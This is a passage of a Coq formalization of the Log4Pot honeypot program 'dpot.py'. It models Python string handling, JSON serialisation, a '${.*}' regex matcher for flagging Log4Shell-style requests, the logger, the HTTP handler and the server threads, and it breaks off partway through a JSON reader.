(** * Log4Pot (dpot.py): a shallow embedding and its verified properties

    The development follows the layout of [dpot.py]:
    - Python values the program manipulates ([str], [bytes], [int], [dict]);
    - [re_exploit], the compiled pattern, with a backtracking matcher;
    - [json.dumps], as far as the logger uses it, and a reader for its output;
    - the [Logger] class ([log] and its wrappers);
    - [Log4PotHTTPRequestHandler.do] and [find_exploit];
    - [Log4PotServerThread] and the module-level start-up code;
    - [Log4PotArgumentParser.convert_arg_line_to_args].

    Effects are threaded explicitly: a computation takes the world (what was
    written to the client, what was written to the log file, the state of the
    remote blob) and returns an outcome together with the new world.  A raised
    exception keeps the effects performed before it.

    What the model leaves to its surroundings:
    - the remote blob, the clock, the random source, the outcome of binding
      a port and the traffic on a port are inputs;
    - writing to the client and to the local file succeeds;
    - a request is one that [http.server] has parsed; the bytes after its
      header block are all that the client sends, so a read never blocks;
      memory is not exhausted;
    - the threads of the listeners run one after the other. *)

From Stdlib Require Import String Ascii List ZArith NArith Lia Bool Arith.
From Stdlib Require Import DecimalString Decimal DecimalZ DecimalN DecimalPos.
Import ListNotations.
Open Scope string_scope.

(** ** Python strings

    The request line and the headers are decoded by [http.server] with the
    [iso-8859-1] codec: every byte is one character, so [string] (a sequence
    of 8-bit characters) represents them exactly.  A decoded body and the
    values handed to [json.dumps] are general Python strings: sequences of
    code points, [ustr]. *)

Definition ustr := list N.

Definition latin1 (s : string) : ustr := map N_of_ascii (list_ascii_of_string s).

(** [str.lower()] on a Latin-1 string: A-Z and the accented capitals
    0xC0-0xDE (but not the multiplication sign 0xD7) move up by 32. *)
Definition lower_ascii (c : ascii) : ascii :=
  let n := N_of_ascii c in
  if ((65 <=? n) && (n <=? 90))%N then ascii_of_N (n + 32)
  else if ((192 <=? n) && (n <=? 222) && negb (n =? 215))%N then ascii_of_N (n + 32)
  else c.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_ascii c) (lower s')
  end.

(** [a.startswith(b)] is [String.prefix b a]. *)
Definition startswith (a b : string) : bool := String.prefix b a.

(** ** Exceptions and outcomes *)

Inductive exn : Type :=
| ValueError (msg : string)
| TypeError (msg : string)
| UnicodeDecodeError (msg : string)
| OverflowError (msg : string)
| OSError (msg : string)
| KeyboardInterrupt
| OtherError (msg : string).

(** [str(e)] *)
Definition str_exn (e : exn) : string :=
  match e with
  | ValueError m | TypeError m | UnicodeDecodeError m | OverflowError m
  | OSError m | OtherError m => m
  | KeyboardInterrupt => EmptyString
  end.


Inductive outcome (A : Type) : Type :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

(** ** The pattern [re_exploit] and [re.search]

    [re.compile("\${.*}")]: the pattern text is backslash, dollar, brace,
    dot, star, brace.  The escaped dollar is a literal; the opening brace does
    not start a repetition count (no digits follow), so it is a literal too;
    [.*] is a greedy repetition of "any character but a line feed"; the
    closing brace is a literal. *)

Inductive atom : Type :=
| Chr (c : ascii)  (* LITERAL *)
| Dot.             (* ANY, without DOTALL *)

Inductive node : Type :=
| One (a : atom)
| Star (a : atom). (* MAX_REPEAT 0..: greedy *)

Definition regex := list node.

Definition atom_ok (a : atom) (c : ascii) : bool :=
  match a with
  | Chr d => Ascii.eqb c d
  | Dot => negb (Ascii.eqb c "010")
  end.

(** Greedy repetition with backtracking: take one more character when the
    rest still matches that way, otherwise hand over to the continuation. *)
Fixpoint match_star (a : atom) (k : string -> option string) (s : string)
  : option string :=
  match s with
  | String c s' =>
      if atom_ok a c then
        match match_star a k s' with
        | Some m => Some (String c m)
        | None => k s
        end
      else k s
  | EmptyString => k s
  end.

(** [match_here r s]: the text matched by [r] at the start of [s]. *)
Fixpoint match_here (r : regex) (s : string) : option string :=
  match r with
  | [] => Some EmptyString
  | One a :: r' =>
      match s with
      | String c s' =>
          if atom_ok a c then option_map (String c) (match_here r' s') else None
      | EmptyString => None
      end
  | Star a :: r' => match_star a (match_here r') s
  end.

(** [pattern.search(s)]: the match at the leftmost position that has one;
    the result is the pair (m.start(), m.group(0)). *)
Fixpoint search_from (r : regex) (pos : nat) (s : string) : option (nat * string) :=
  match match_here r s with
  | Some m => Some (pos, m)
  | None =>
      match s with
      | EmptyString => None
      | String _ s' => search_from r (S pos) s'
      end
  end.

Definition search (r : regex) (s : string) : option (nat * string) :=
  search_from r 0 s.

Definition re_exploit : regex :=
  [One (Chr "$"); One (Chr "{"); Star Dot; One (Chr "}")].

(** What is left of the pattern once the repetition has taken its share:
    the closing brace. *)
Definition close_k : string -> option string := match_here [One (Chr "}")].

(** ** Python dictionaries

    A [dict] keeps its keys unique and remembers the order in which they were
    first inserted; [json.dumps] writes the entries in that order.  The model
    is an association list without repeated keys. *)

Section Dict.
Context {K V : Type} (eqb : K -> K -> bool).

(** [d[k] = v]: overwrite in place, or append a new entry at the end. *)
Fixpoint dict_set (d : list (K * V)) (k : K) (v : V) : list (K * V) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if eqb k' k then (k', v) :: d' else (k', v') :: dict_set d' k v
  end.

(** [d.get(k)] *)
Fixpoint dict_get (d : list (K * V)) (k : K) : option V :=
  match d with
  | [] => None
  | (k', v') :: d' => if eqb k' k then Some v' else dict_get d' k
  end.

(** [k in d] *)
Definition dict_mem (d : list (K * V)) (k : K) : bool :=
  match dict_get d k with Some _ => true | None => false end.

(** [{**d, **e}], also [d.update(e)]: the entries of [e] are set in order. *)
Definition dict_update (d e : list (K * V)) : list (K * V) :=
  fold_left (fun acc kv => dict_set acc (fst kv) (snd kv)) e d.
End Dict.

Fixpoint ustr_eqb (a b : ustr) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => (x =? y)%N && ustr_eqb a' b'
  | _, _ => false
  end.

(** ** [json.dumps]

    The values the logger serialises are strings, integers and dictionaries
    with string keys.  Defaults of [json.dumps]: [ensure_ascii=True], item
    separator comma-space, key separator colon-space, no key sorting. *)

#[local] Set Warnings "-register-all".

Inductive json : Type :=
| JNull
| JStr (s : ustr)
| JInt (z : Z)
| JObj (kvs : list (ustr * json)).

Definition dquote : ascii := "034"%char.
Definition backslash : ascii := "092"%char.

Definition hex_digit (n : N) : ascii :=
  if (n <? 10)%N then ascii_of_N (48 + n) else ascii_of_N (87 + n).

(** ['{0:04x}'.format(n)] for [n < 0x10000] *)
Definition hex4 (n : N) : string :=
  String (hex_digit (N.land (N.shiftr n 12) 15))
    (String (hex_digit (N.land (N.shiftr n 8) 15))
       (String (hex_digit (N.land (N.shiftr n 4) 15))
          (String (hex_digit (N.land n 15)) EmptyString))).

Definition u_escape (n : N) : string :=
  String backslash (String "u" (hex4 n)).

(** [json.encoder.py_encode_basestring_ascii]: the replacement of one
    character.  Printable ASCII other than the quote and the backslash stays;
    the rest goes through [ESCAPE_DCT] or becomes one [\uXXXX] escape, two (a
    surrogate pair) above the basic plane. *)
Definition escape_cp (c : N) : string :=
  if (c =? 34)%N then String backslash (String dquote EmptyString)
  else if (c =? 92)%N then String backslash (String backslash EmptyString)
  else if ((32 <=? c) && (c <=? 126))%N then String (ascii_of_N c) EmptyString
  else if (c =? 10)%N then String backslash "n"
  else if (c =? 13)%N then String backslash "r"
  else if (c =? 9)%N then String backslash "t"
  else if (c =? 12)%N then String backslash "f"
  else if (c =? 8)%N then String backslash "b"
  else if (c <? 65536)%N then u_escape c
  else
    let n := (c - 65536)%N in
    u_escape (N.lor 55296 (N.land (N.shiftr n 10) 1023))
    ++ u_escape (N.lor 56320 (N.land n 1023)).

Fixpoint escape_body (s : ustr) : string :=
  match s with
  | [] => EmptyString
  | c :: s' => escape_cp c ++ escape_body s'
  end.

Definition encode_str (s : ustr) : string :=
  String dquote (escape_body s ++ String dquote EmptyString).

(** [str(z)] for an [int] *)
Definition str_int (z : Z) : string := NilZero.string_of_int (Z.to_int z).

Fixpoint dumps (v : json) : string :=
  match v with
  | JNull => "null"
  | JStr s => encode_str s
  | JInt z => str_int z
  | JObj kvs =>
      let fix items (first : bool) (l : list (ustr * json)) : string :=
        match l with
        | [] => EmptyString
        | (k, x) :: l' =>
            (if first then EmptyString else ", ")
            ++ encode_str k ++ ": " ++ dumps x ++ items false l'
        end in
      "{" ++ items true kvs ++ "}"
  end.

(** The members of an object, as [dumps] writes them. *)
Fixpoint dumps_items (first : bool) (l : list (ustr * json)) : string :=
  match l with
  | [] => EmptyString
  | (k, x) :: l' =>
      (if first then EmptyString else ", ")
      ++ encode_str k ++ ": " ++ dumps x ++ dumps_items false l'
  end.

(** ** Values from the standard library that the program reads *)

(** *** [datetime.utcnow().isoformat()] *)

Record datetime : Type := {
  year : N; month : N; day : N;
  hour : N; minute : N; second : N; microsecond : N
}.

(** ['%0wd' % n]: the decimal digits of [n], with leading zeros up to the
    width [w]; a number that needs more than [w] digits is written in full. *)
Fixpoint fixed_digits (w : nat) (n : N) : string :=
  match w with
  | O => EmptyString
  | S w' =>
      fixed_digits w' (n / 10)
      ++ String (ascii_of_N (48 + n mod 10)) EmptyString
  end.

Definition zpad (w : nat) (n : N) : string :=
  if (n <? 10 ^ N.of_nat w)%N then fixed_digits w n
  else NilZero.string_of_uint (N.to_uint n).

Definition isoformat (t : datetime) : string :=
  zpad 4 (year t) ++ "-" ++ zpad 2 (month t) ++ "-" ++ zpad 2 (day t) ++ "T"
  ++ zpad 2 (hour t) ++ ":" ++ zpad 2 (minute t) ++ ":" ++ zpad 2 (second t)
  ++ (if (microsecond t =? 0)%N then EmptyString
      else "." ++ zpad 6 (microsecond t)).

(** *** [uuid4()] and [str(uuid)]

    A UUID is its 128-bit integer.  [uuid4] takes 16 random bytes and sets
    the variant and version fields; [str] writes 32 hexadecimal digits in
    groups of 8-4-4-4-12. *)

Definition uuid_of_random (r : N) : N :=
  let i := N.land r (N.ones 128) in
  let i := N.lor (N.ldiff i (N.shiftl 49152 48)) (N.shiftl 32768 48) in
  N.lor (N.ldiff i (N.shiftl 61440 64)) (N.shiftl 4 76).

Fixpoint hex_rev (k : nat) (n : N) : string :=
  match k with
  | O => EmptyString
  | S k' => String (hex_digit (N.land n 15)) (hex_rev k' (N.shiftr n 4))
  end.

Fixpoint string_rev_append (s acc : string) : string :=
  match s with
  | EmptyString => acc
  | String c s' => string_rev_append s' (String c acc)
  end.

(** ['%032x' % n] *)
Definition hex32 (n : N) : string := string_rev_append (hex_rev 32 n) EmptyString.

Definition str_uuid (u : N) : string :=
  let h := hex32 u in
  substring 0 8 h ++ "-" ++ substring 8 4 h ++ "-" ++ substring 12 4 h ++ "-"
  ++ substring 16 4 h ++ "-" ++ substring 20 12 h.

(** *** [bytes.decode('utf-8')], strict

    Shortest forms only, no surrogates, nothing above U+10FFFF. *)

Definition is_cont (b : N) : bool := ((128 <=? b) && (b <=? 191))%N.

Definition in_range (lo hi b : N) : bool := ((lo <=? b) && (b <=? hi))%N.

Fixpoint utf8_decode_from (pos : nat) (bs : list N) : outcome ustr :=
  let bad := Raise (UnicodeDecodeError
    ("'utf-8' codec can't decode byte in position "
     ++ NilZero.string_of_uint (Nat.to_uint pos))) in
  let cons c r := match r with Ok s => Ok (c :: s) | Raise e => Raise e end in
  match bs with
  | [] => Ok []
  | b0 :: r0 =>
      if (b0 <? 128)%N then cons b0 (utf8_decode_from (S pos) r0)
      else if in_range 194 223 b0 then
        match r0 with
        | b1 :: r1 =>
            if is_cont b1
            then cons ((b0 - 192) * 64 + (b1 - 128))%N
                      (utf8_decode_from (2 + pos) r1)
            else bad
        | _ => bad
        end
      else if in_range 224 239 b0 then
        match r0 with
        | b1 :: b2 :: r2 =>
            if in_range (if (b0 =? 224)%N then 160 else 128)
                        (if (b0 =? 237)%N then 159 else 191) b1 && is_cont b2
            then cons ((b0 - 224) * 4096 + (b1 - 128) * 64 + (b2 - 128))%N
                      (utf8_decode_from (3 + pos) r2)
            else bad
        | _ => bad
        end
      else if in_range 240 244 b0 then
        match r0 with
        | b1 :: b2 :: b3 :: r3 =>
            if in_range (if (b0 =? 240)%N then 144 else 128)
                        (if (b0 =? 244)%N then 143 else 191) b1
               && is_cont b2 && is_cont b3
            then cons ((b0 - 240) * 262144 + (b1 - 128) * 4096
                       + (b2 - 128) * 64 + (b3 - 128))%N
                      (utf8_decode_from (4 + pos) r3)
            else bad
        | _ => bad
        end
      else bad
  end.

Definition utf8_decode (bs : list Byte.byte) : outcome ustr :=
  utf8_decode_from 0 (map Byte.to_N bs).

(** *** [int(s)] for a Latin-1 string

    White space is stripped at both ends, one sign may lead, and the digits
    may be separated by single underscores.  The white space of [int] is
    that of the C library (tab to carriage return, and the blank) and,
    beyond ASCII, that of Unicode (U+0085 and U+00A0 in Latin-1); the
    separators U+001C to U+001F are not white space here.  Latin-1 has no
    decimal digits besides 0-9.  A numeral of more than 4300 digits is
    refused (CPython 3.11 and later, and the security releases of the
    versions before it). *)

Definition is_space (c : ascii) : bool :=
  let n := N_of_ascii c in
  (in_range 9 13 n || (n =? 32) || (n =? 133) || (n =? 160))%N.

Definition is_digit (c : ascii) : bool := in_range 48 57 (N_of_ascii c).

Definition digit_val (c : ascii) : Z := Z.of_N (N_of_ascii c) - 48.

Fixpoint lstrip (s : string) : string :=
  match s with
  | String c s' => if is_space c then lstrip s' else s
  | EmptyString => s
  end.

(** After the last digit: only white space may follow. *)
Fixpoint all_space (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => is_space c && all_space s'
  end.

(** [digits_from acc s]: [s] continues a number whose digits so far give
    [acc]; the previous character was a digit. *)
Fixpoint digits_from (acc : Z) (s : string) : option Z :=
  match s with
  | EmptyString => Some acc
  | String c s' =>
      if is_digit c then digits_from (10 * acc + digit_val c) s'
      else if Ascii.eqb c "_" then
        match s' with
        | String d s'' =>
            if is_digit d then digits_from (10 * acc + digit_val d) s'' else None
        | EmptyString => None
        end
      else if all_space s then Some acc else None
  end.

Definition digits (s : string) : option Z :=
  match s with
  | String c s' => if is_digit c then digits_from (digit_val c) s' else None
  | EmptyString => None
  end.

(** The number of digits of the numeral at the start of [s], when that
    numeral is well formed: the scan stops at the first character that is
    neither a digit nor an underscore.  [run_from]: the previous character
    was a digit. *)
Fixpoint run_from (s : string) : option nat :=
  match s with
  | EmptyString => Some O
  | String c s' =>
      if is_digit c then option_map S (run_from s')
      else if Ascii.eqb c "_" then
        match s' with
        | String d s'' => if is_digit d then option_map S (run_from s'') else None
        | EmptyString => None
        end
      else Some O
  end.

Definition digit_run (s : string) : option nat :=
  match s with
  | String c s' => if is_digit c then option_map S (run_from s') else None
  | EmptyString => None
  end.

Definition max_str_digits : nat := 4300.

Definition py_int (s : string) : outcome Z :=
  let bad := Raise (ValueError ("invalid literal for int() with base 10: " ++ s)) in
  let t := lstrip s in
  let numeral :=
    match t with
    | String "-" t' => t'
    | String "+" t' => t'
    | _ => t
    end in
  let r :=
    match t with
    | String "-" t' => option_map Z.opp (digits t')
    | String "+" t' => digits t'
    | _ => digits t
    end in
  match digit_run numeral with
  | Some k =>
      if (max_str_digits <? k)%nat
      then Raise (ValueError
             ("Exceeds the limit (4300 digits) for integer string conversion: "
              ++ "value has " ++ NilZero.string_of_uint (Nat.to_uint k)
              ++ " digits; use sys.set_int_max_str_digits() to increase "
              ++ "the limit"))
      else match r with Some z => Ok z | None => bad end
  | None => bad
  end.

(** *** [email.message.Message]: the parsed headers

    The header lines in arrival order, names as the client spelled them. *)

Definition Message := list (string * string).

(** [m.keys()] and [m.items()] list every header line, repeats included. *)
Definition msg_keys (m : Message) : list string := map fst m.
Definition msg_items (m : Message) : list (string * string) := m.

(** [m[name]]: the value of the first header whose name equals [name] up to
    case, [None] when there is none. *)
Fixpoint msg_get (m : Message) (name : string) : option string :=
  match m with
  | [] => None
  | (k, v) :: m' =>
      if String.eqb (lower k) (lower name) then Some v else msg_get m' name
  end.

(** [dict(m)]: for every key of [m.keys()], in order, [d[key] = m[key]]. *)
Definition dict_of_message (m : Message) : list (string * option string) :=
  fold_left (fun d k => dict_set String.eqb d k (msg_get m k)) (msg_keys m) [].

Definition json_of_opt (v : option string) : json :=
  match v with Some s => JStr (latin1 s) | None => JNull end.

Definition json_of_headers (d : list (string * option string)) : json :=
  JObj (map (fun kv => (latin1 (fst kv), json_of_opt (snd kv))) d).

(** *** [rfile.read(n)] on the buffered request stream

    [rest] is what the client sends after the header block before it stops
    sending.  A count of -1 reads to the end; a smaller one is refused; one
    that does not fit a machine index overflows, and so does one for which
    no byte string can be made (the header of the string takes 33 bytes).
    Otherwise the reader makes a buffer of [n] bytes and fills it with what
    arrives, up to [n] bytes.  The model takes the buffer to be granted:
    running out of memory (a [MemoryError], for counts of many gigabytes) is
    left out. *)
Definition rfile_read (rest : list Byte.byte) (n : Z) : outcome (list Byte.byte) :=
  if (n <? -1)%Z then Raise (ValueError "read length must be non-negative or -1")
  else if (n =? -1)%Z then Ok rest
  else if (9223372036854775807 <? n)%Z
       then Raise (OverflowError "cannot fit 'int' into an index-sized integer")
  else if (9223372036854775807 - 33 <? n)%Z
       then Raise (OverflowError "byte string is too large")
  else Ok (firstn (Z.to_nat n) rest).

(** The attributes of a request handler that [do] reads, and of its server. *)
Record Request : Type := {
  command : string;                (* the method word of the request line *)
  requestline : string;
  headers : Message;
  rfile : list Byte.byte;          (* the bytes that follow the header block *)
  client_address : string * Z
}.

Record Server : Type := {
  server_address : string * Z;
  server_header : option string
}.

(** ** The world and its effects *)

Inductive effect : Type :=
| SendResponse (version : option string) (code : Z)
    (* send_response: status line, Server header ([None]: the library's
       version string) and Date header *)
| SendHeader (keyword value : string)
| EndHeaders
| WfileWrite (data : string)
| FileWrite (text : string)    (* self.f.write *)
| FileFlush                    (* self.f.flush *)
| FileClose                    (* self.f.close *)
| Stdout (text : string).      (* print to standard output *)

Section Program.

(** The remote append blob is an external service: its state and the
    behaviour of [append_block] are left open. *)
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

(** The network is external too: whether binding a port succeeds, which
    requests arrive on a port, and the exception, if any, that ends its
    [serve_forever]. *)
Context (server_bind : Z -> outcome unit)
        (traffic : Z -> list Request * option exn).

Record World : Type := mkWorld {
  trace : list effect;       (* what the process did so far, oldest first *)
  blob : option Blob;        (* logger.blob *)
  clock : nat -> datetime;   (* successive readings of the UTC clock *)
  ticks : nat;
  urandom : nat -> N;        (* successive draws of 16 random bytes *)
  draws : nat
}.

Definition M (A : Type) : Type := World -> outcome A * World.

Definition ret {A} (a : A) : M A := fun w => (Ok a, w).

Definition raise {A} (e : exn) : M A := fun w => (Raise e, w).

Definition bind {A C} (c : M A) (k : A -> M C) : M C :=
  fun w =>
    match c w with
    | (Ok a, w') => k a w'
    | (Raise e, w') => (Raise e, w')
    end.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity).
Notation "c ;;; k" := (bind c (fun _ => k))
  (at level 61, right associativity).

Definition lift {A} (o : outcome A) : M A := fun w => (o, w).

(** [for x in l: body(x)] *)
Fixpoint for_each {A} (l : list A) (body : A -> M unit) : M unit :=
  match l with
  | [] => ret tt
  | x :: l' => body x ;;; for_each l' body
  end.

Definition emit (e : effect) : M unit :=
  fun w => (Ok tt, mkWorld (trace w ++ [e]) (blob w) (clock w) (ticks w)
                           (urandom w) (draws w)).

Definition utcnow : M datetime :=
  fun w => (Ok (clock w (ticks w)),
            mkWorld (trace w) (blob w) (clock w) (S (ticks w))
                    (urandom w) (draws w)).

Definition uuid4 : M N :=
  fun w => (Ok (uuid_of_random (urandom w (draws w))),
            mkWorld (trace w) (blob w) (clock w) (ticks w)
                    (urandom w) (S (draws w))).

(** [if self.blob is not None: self.blob.append_block(j)] *)
Definition blob_append (j : string) : M unit :=
  fun w =>
    match blob w with
    | None => (Ok tt, w)
    | Some b =>
        let (r, b') := append_block b j in
        (r, mkWorld (trace w) (Some b') (clock w) (ticks w)
                    (urandom w) (draws w))
    end.

(** ** class Logger *)

Definition newline : string := String "010" EmptyString.

(** The dictionary [d] that [log] builds. *)
Definition log_record (logtype : ustr) (now : datetime)
           (kwargs : list (ustr * json)) : list (ustr * json) :=
  dict_update ustr_eqb
    [(latin1 "type", JStr logtype);
     (latin1 "timestamp", JStr (latin1 (isoformat now)))]
    kwargs.

(** The line written for it. *)
Definition log_line (d : list (ustr * json)) : string :=
  dumps (JObj d) ++ newline.

Definition log (logtype : ustr) (message : ustr)
           (kwargs : list (ustr * json)) : M unit :=
  now <- utcnow ;;
  let d := log_record logtype now kwargs in
  let j := log_line d in
  emit (FileWrite j) ;;;
  emit FileFlush ;;;
  blob_append j.

Definition log_start : M unit :=
  log (latin1 "start") (latin1 "Log4Pot started") [].

Definition log_request (server_port : Z) (client : string) (port : Z)
           (request : string) (headers : Message) (uuid : N) : M unit :=
  log (latin1 "request") (latin1 "A request was received")
    [(latin1 "correlation_id", JStr (latin1 (str_uuid uuid)));
     (latin1 "server_port", JInt server_port);
     (latin1 "client", JStr (latin1 client));
     (latin1 "port", JInt port);
     (latin1 "request", JStr (latin1 request));
     (latin1 "headers", json_of_headers (dict_of_message headers))].

Definition log_request_body (server_port : Z) (client : string) (port : Z)
           (request : string) (headers : Message) (uuid : N)
           (content : ustr) : M unit :=
  log (latin1 "request") (latin1 "A request was received")
    [(latin1 "correlation_id", JStr (latin1 (str_uuid uuid)));
     (latin1 "server_port", JInt server_port);
     (latin1 "client", JStr (latin1 client));
     (latin1 "port", JInt port);
     (latin1 "request", JStr (latin1 request));
     (latin1 "headers", json_of_headers (dict_of_message headers));
     (latin1 "body", JStr content)].

Definition log_exploit (location payload : string) (uuid : N)
           (client : string) : M unit :=
  log (latin1 "exploit") (latin1 "Exploit detected")
    [(latin1 "correlation_id", JStr (latin1 (str_uuid uuid)));
     (latin1 "location", JStr (latin1 location));
     (latin1 "payload", JStr (latin1 payload));
     (latin1 "client", JStr (latin1 client))].

Definition log_exception (e : exn) : M unit :=
  log (latin1 "exception") (latin1 "Exception occurred")
    [(latin1 "exception", JStr (latin1 (str_exn e)))].

Definition log_end : M unit :=
  log (latin1 "end") (latin1 "Log4Pot stopped") [].

(** ** class Log4PotHTTPRequestHandler *)

Definition quoted (s : string) : string :=
  String dquote (s ++ String dquote EmptyString).

(** The f-string of the response body. *)
Definition response_body (uuid : N) : string :=
  "{ " ++ quoted "status" ++ ": " ++ quoted "ok" ++ ", "
  ++ quoted "id" ++ ": " ++ quoted (str_uuid uuid) ++ " }".

Definition find_exploit (self : Request) (uuid : N)
           (location content : string) : M unit :=
  match search re_exploit content with
  | Some (_, group0) =>
      log_exploit location group0 uuid (fst (client_address self))
  | None => ret tt
  end.

Definition do (server : Server) (self : Request) : M unit :=
  let version_string :=
    match server_header server with
    | Some h => if String.eqb h EmptyString then None else Some h
    | None => None
    end in
  uuid <- uuid4 ;;
  emit (SendResponse version_string 200) ;;;
  emit (SendHeader "Content-Type" "text/json") ;;;
  emit EndHeaders ;;;
  emit (WfileWrite (response_body uuid)) ;;;
  (if dict_mem String.eqb (dict_of_message (headers self)) "Content-Length"
   then
     content_length <-
       match msg_get (headers self) "Content-Length" with
       | Some v => lift (py_int v)
       | None => raise (TypeError "int() argument must be a string")
       end ;;
     post_data <- lift (rfile_read (rfile self) content_length) ;;
     content <- lift (utf8_decode post_data) ;;
     log_request_body (snd (server_address server))
       (fst (client_address self)) (snd (client_address self))
       (requestline self) (headers self) uuid content
   else
     log_request (snd (server_address server))
       (fst (client_address self)) (snd (client_address self))
       (requestline self) (headers self) uuid) ;;;
  find_exploit self uuid "request" (requestline self) ;;;
  for_each (msg_items (headers self))
    (fun hv => find_exploit self uuid ("header-" ++ fst hv) (snd hv)).

(** [__getattribute__]: every attribute whose name starts with [do_] is
    [do]; [None] stands for the ordinary lookup. *)
Definition getattribute (name : string) : option (Server -> Request -> M unit) :=
  if startswith name "do_" then Some do else None.

(** [BaseHTTPRequestHandler.handle_one_request], once the request is
    parsed: look up [do_<command>] and call it, or answer 501. *)
Definition handle_one_request (server : Server) (self : Request) : M unit :=
  match getattribute ("do_" ++ command self) with
  | Some method => method server self
  | None => emit (SendResponse None 501)
  end.

(** [socketserver.ThreadingMixIn] runs the handler in a thread of its
    own: whatever escapes the handler ends that thread (an [Exception] is
    reported on standard error) and never reaches the serving loop. *)
Definition process_request (server : Server) (self : Request) : M unit :=
  fun w => (Ok tt, snd (handle_one_request server self w)).

(** ** class Log4PotServerThread *)

Record ServerThread : Type := {
  port : Z;
  server : Server
}.

(** [__init__]: constructing the HTTP server binds and listens. *)
Definition ServerThread_init (p : Z) (header : option string) : M ServerThread :=
  lift (server_bind p) ;;;
  ret {| port := p; server := {| server_address := (EmptyString, p);
                                 server_header := header |} |}.

(** [serve_forever]: the requests of this port, then the failure that ends
    the loop, if one does.  A loop that meets no failure serves for ever
    (the program never calls [shutdown]); the model follows it for a
    finite stretch of its traffic and lets it return there.  The requests
    are handled one after the other. *)
Definition serve_forever (t : ServerThread) : M unit :=
  for_each (fst (traffic (port t))) (process_request (server t)) ;;;
  match snd (traffic (port t)) with
  | Some e => raise e
  | None => ret tt
  end.

Definition run (t : ServerThread) : M unit :=
  fun w =>
    match serve_forever t w with
    | (Ok a, w') => (Ok a, w')       (* then server_close() *)
    | (Raise KeyboardInterrupt, w') => (Ok tt, w')
    | (Raise e, w') => log_exception e w'
    end.

(** [thread.start()] ... [thread.join()]: the body runs; an exception that
    escapes [run] ends that thread and nothing else. *)
Definition start_join (t : ServerThread) : M unit :=
  fun w => (Ok tt, snd (run t w)).

(** [[f(x) for x in l]] *)
Fixpoint comprehension {A C} (f : A -> M C) (l : list A) : M (list C) :=
  match l with
  | [] => ret []
  | x :: l' => y <- f x ;; ys <- comprehension f l' ;; ret (y :: ys)
  end.

Definition close : M unit :=
  log_end ;;; emit FileClose.

(** ** The module-level code, from [threads = ...] on

    The threads run one after the other here: one of the schedules of the
    real, concurrent program. *)
Definition main (ports : list Z) (header : option string) : M unit :=
  threads <- comprehension (fun p => ServerThread_init p header) ports ;;
  log_start ;;;
  for_each threads (fun t =>
    emit (Stdout ("Started DPot server on port "
                 ++ str_int (port t) ++ "."))) ;;;
  for_each threads start_join ;;;
  for_each threads (fun t =>
    emit (Stdout ("Stopped DPot server on port "
                 ++ str_int (port t) ++ "."))) ;;;
  close.

End Program.

(** ** Reading a log line back: [json.loads]

    The reader follows [json.decoder] and [json.scanner] on the part of JSON
    that the logger writes: [null], strings, integers and objects.  Arrays,
    floats and booleans are outside it and give [None], as a syntax error
    does. *)

Definition hex_val (c : ascii) : option N :=
  let n := N_of_ascii c in
  if in_range 48 57 n then Some (n - 48)%N
  else if in_range 97 102 n then Some (n - 87)%N
  else if in_range 65 70 n then Some (n - 55)%N
  else None.

(** [BACKSLASH]: the one-letter escapes. *)
Definition simple_escape (c : ascii) : option N :=
  if Ascii.eqb c dquote then Some 34%N
  else if Ascii.eqb c backslash then Some 92%N
  else if Ascii.eqb c "/" then Some 47%N
  else if Ascii.eqb c "b" then Some 8%N
  else if Ascii.eqb c "f" then Some 12%N
  else if Ascii.eqb c "n" then Some 10%N
  else if Ascii.eqb c "r" then Some 13%N
  else if Ascii.eqb c "t" then Some 9%N
  else None.

Definition is_high (n : N) : bool := in_range 55296 56319 n.
Definition is_low (n : N) : bool := in_range 56320 57343 n.

Inductive scan_mode : Type :=
| Plain
| Esc
| Hex (more : nat) (acc : N).

(** The characters read so far, newest first; a high surrogate that may
    still be completed by a low one is held back in [pending]. *)
Definition flush (pending : option N) (acc : ustr) : ustr :=
  match pending with Some hi => hi :: acc | None => acc end.

(** [py_scanstring], strict, from after the opening quote: the decoded
    string and what follows the closing quote. *)
Fixpoint scanstring (mode : scan_mode) (pending : option N) (acc : ustr)
         (s : string) : option (ustr * string) :=
  match s with
  | EmptyString => None
  | String c s' =>
      match mode with
      | Plain =>
          if Ascii.eqb c dquote then Some (List.rev (flush pending acc), s')
          else if Ascii.eqb c backslash then scanstring Esc pending acc s'
          else if (N_of_ascii c <? 32)%N then None
          else scanstring Plain None (N_of_ascii c :: flush pending acc) s'
      | Esc =>
          if Ascii.eqb c "u" then scanstring (Hex 3 0) pending acc s'
          else
            match simple_escape c with
            | Some x => scanstring Plain None (x :: flush pending acc) s'
            | None => None
            end
      | Hex more a =>
          match hex_val c with
          | None => None
          | Some d =>
              let uni := (a * 16 + d)%N in
              match more with
              | S more1 => scanstring (Hex more1 uni) pending acc s'
              | O =>
                  match pending with
                  | Some hi =>
                      if is_low uni
                      then scanstring Plain None
                             ((65536 + (N.lor (N.shiftl (hi - 55296) 10)
                                              (uni - 56320)))%N :: acc) s'
                      else if is_high uni
                           then scanstring Plain (Some uni) (hi :: acc) s'
                           else scanstring Plain None (uni :: hi :: acc) s'
                  | None =>
                      if is_high uni
                      then scanstring Plain (Some uni) acc s'
                      else scanstring Plain None (uni :: acc) s'
                  end
              end
          end
      end
  end.

(** [WHITESPACE]: blank, tab, line feed, carriage return. *)
Definition is_json_space (c : ascii) : bool :=
  Ascii.eqb c " " || Ascii.eqb c "009" || Ascii.eqb c "010" || Ascii.eqb c "013".

Fixpoint skip_ws (s : string) : string :=
  match s with
  | String c s' => if is_json_space c then skip_ws s' else s
  | EmptyString => s
  end.

Definition digit_of (c : ascii) : option (uint -> uint) :=
  if Ascii.eqb c "0" then Some D0 else if Ascii.eqb c "1" then Some D1
  else if Ascii.eqb c "2" then Some D2 else if Ascii.eqb c "3" then Some D3
  else if Ascii.eqb c "4" then Some D4 else if Ascii.eqb c "5" then Some D5
  else if Ascii.eqb c "6" then Some D6 else if Ascii.eqb c "7" then Some D7
  else if Ascii.eqb c "8" then Some D8 else if Ascii.eqb c "9" then Some D9
  else None.

(** The longest run of digits at the start of [s]. *)
Fixpoint read_digits (s : string) : uint * string :=
  match s with
  | String c s' =>
      match digit_of c with
